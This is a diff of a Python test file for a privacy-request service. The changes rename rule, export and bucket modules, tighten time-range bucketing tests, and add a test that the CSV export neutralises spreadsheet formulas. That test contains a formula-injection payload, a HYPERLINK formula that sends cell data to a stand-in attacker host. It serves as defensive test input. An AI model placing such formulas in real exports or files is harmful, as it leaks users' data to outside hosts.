@@ -15,10 +15,11 @@ from hypothesis import strategies as st
 from consentstream.audit import GENESIS, entry_hash, hash_of, verify
 from consentstream.audit_anchor import Head
 from schemas.rows import AuditRow, PrivacyRequestRow
-from services.api import answers, requests, usage
+from services.api import answers, buckets, usage
 from services.api.config import ApiSettings
 from services.api.datamap import access_report, load_data_map
 from services.api.errors import InvalidInput
+from services.api.privacy import export, rules
 
 NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
 KEY = b"unit-test-audit-key"
@@ -42,8 +43,8 @@ def request(created: datetime, kind: str = "access", status: str = "done") -> Pr
 
 def test_two_requests_a_year_then_the_date_of_the_next() -> None:
     first, second = NOW - timedelta(days=300), NOW - timedelta(days=10)
-    assert requests.next_allowed([request(first)], 2, NOW) is None
-    allowed = requests.next_allowed([request(first), request(second, "portability")], 2, NOW)
+    assert rules.next_allowed([request(first)], 2, NOW) is None
+    allowed = rules.next_allowed([request(first), request(second, "portability")], 2, NOW)
     assert allowed == first.replace(year=first.year + 1)
 
 
@@ -54,19 +55,19 @@ def test_deletions_rejections_and_old_requests_do_not_count() -> None:
         request(NOW - timedelta(days=366)),
         request(NOW - timedelta(days=7)),
     ]
-    assert requests.next_allowed(earlier, 2, NOW) is None
+    assert rules.next_allowed(earlier, 2, NOW) is None
 
 
 def test_a_year_after_a_leap_day() -> None:
     leap = datetime(2028, 2, 29, 9, 0, tzinfo=UTC)
-    assert requests.one_year_after(leap) == datetime(2029, 3, 1, 9, 0, tzinfo=UTC)
+    assert rules.one_year_after(leap) == datetime(2029, 3, 1, 9, 0, tzinfo=UTC)
 
 
 def test_due_soon_only_for_open_requests_near_the_deadline() -> None:
     near = request(NOW - timedelta(days=25), status="verified")
-    assert requests.is_due_soon(near, 7, NOW)
-    assert not requests.is_due_soon(request(NOW, status="verified"), 7, NOW)
-    assert not requests.is_due_soon(request(NOW - timedelta(days=25)), 7, NOW)  # done
+    assert rules.is_due_soon(near, 7, NOW)
+    assert not rules.is_due_soon(request(NOW, status="verified"), 7, NOW)
+    assert not rules.is_due_soon(request(NOW - timedelta(days=25)), 7, NOW)  # done
 
 
 def test_fold_withholds_a_small_other_and_keeps_big_groups() -> None:
@@ -81,12 +82,31 @@ def test_fold_withholds_a_small_other_and_keeps_big_groups() -> None:
 
 
 def test_time_range_defaults_and_limits() -> None:
-    start, end = usage.time_range(None, NOW, "day", 400)
+    start, end = usage.time_range(None, NOW - timedelta(hours=12), "day", 400)
     assert end - start == timedelta(days=7)
     with pytest.raises(InvalidInput):
         usage.time_range(NOW, NOW, "day", 400)
     with pytest.raises(InvalidInput):
         usage.time_range(NOW - timedelta(days=32), NOW, "hour", 400)
+
+
+def test_time_range_answers_whole_ready_buckets_only() -> None:
+    cut = (NOW + timedelta(seconds=1), NOW + timedelta(seconds=3))
+    hour = (NOW, NOW + timedelta(hours=1))
+    ready = NOW + timedelta(days=1)
+    # a window cut to the second reaches exactly what its whole bucket reaches
+    assert usage.time_range(*cut, "hour", 400, ready_before=ready) == hour
+    assert usage.time_range(*cut, "day", 400, ready_before=ready) == (
+        datetime(2026, 6, 1, tzinfo=UTC),
+        datetime(2026, 6, 2, tzinfo=UTC),
+    )
+    # the bucket still running (or not settled yet) is never answered: the range ends before
+    assert usage.time_range(*cut, "hour", 400, ready_before=NOW + timedelta(minutes=59)) == (
+        NOW,
+        NOW,
+    )
+    start, end = usage.time_range(NOW - timedelta(days=3), None, "week", 400)
+    assert end <= buckets.floor_bucket(datetime.now(UTC), "week") and start.weekday() == 0
 
 
 def chain(n: int) -> list[AuditRow]:
@@ -175,17 +195,29 @@ def test_a_malformed_data_map_is_refused(tmp_path: Path) -> None:
 
 def test_portability_csv_round_trips_odd_text() -> None:
     data = {"usage_events": [{"page_title": 'a,"b"\nc', "purposes": ["necessary"], "n": 3}]}
-    rows = list(csv.DictReader(io.StringIO(requests.export_csv(data))))
+    rows = list(csv.DictReader(io.StringIO(export.export_csv(data))))
     values = {r["field"]: r["value"] for r in rows}
     assert values == {"page_title": 'a,"b"\nc', "purposes": '["necessary"]', "n": "3"}
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_portability_csv_never_writes_a_live_formula(start: str) -> None:
+    title = f'{start}HYPERLINK("https://evil.example.com/?d="&A1,"open")'
+    data = {"usage_events": [{"page_title": title, "props": {"k": f"{start}1+1"}, "n": -3}]}
+    rows = list(csv.DictReader(io.StringIO(export.export_csv(data))))
+    values = {r["field"]: r["value"] for r in rows}
+    # the visitor's text is kept whole, behind a quote a spreadsheet shows as text
+    assert values["page_title"] == "'" + title
+    assert not values["props"].startswith(export.FORMULA_STARTS)
+    assert values["n"] == "-3"  # a number stays a number
+
+
 def test_buckets_align_to_hours_days_and_monday_weeks() -> None:
     moment = datetime(2026, 3, 4, 15, 30, tzinfo=UTC)  # a Wednesday
-    assert answers.floor_bucket(moment, "hour") == datetime(2026, 3, 4, 15, tzinfo=UTC)
-    assert answers.floor_bucket(moment, "day") == datetime(2026, 3, 4, tzinfo=UTC)
-    assert answers.floor_bucket(moment, "week") == datetime(2026, 3, 2, tzinfo=UTC)
-    assert answers.ceil_bucket(datetime(2026, 3, 4, tzinfo=UTC), "day") == datetime(
+    assert buckets.floor_bucket(moment, "hour") == datetime(2026, 3, 4, 15, tzinfo=UTC)
+    assert buckets.floor_bucket(moment, "day") == datetime(2026, 3, 4, tzinfo=UTC)
+    assert buckets.floor_bucket(moment, "week") == datetime(2026, 3, 2, tzinfo=UTC)
+    assert buckets.ceil_bucket(datetime(2026, 3, 4, tzinfo=UTC), "day") == datetime(
         2026, 3, 4, tzinfo=UTC
     )
 
